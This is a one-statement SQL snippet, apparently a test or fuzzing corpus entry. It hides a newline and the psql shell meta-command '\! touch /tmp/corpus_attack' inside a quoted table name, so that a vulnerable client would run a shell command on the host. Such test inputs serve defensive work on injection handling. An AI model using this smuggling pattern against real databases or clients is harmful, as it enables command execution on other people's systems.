INSERT INTO "x
\! touch /tmp/corpus_attack
--" VALUES (1);
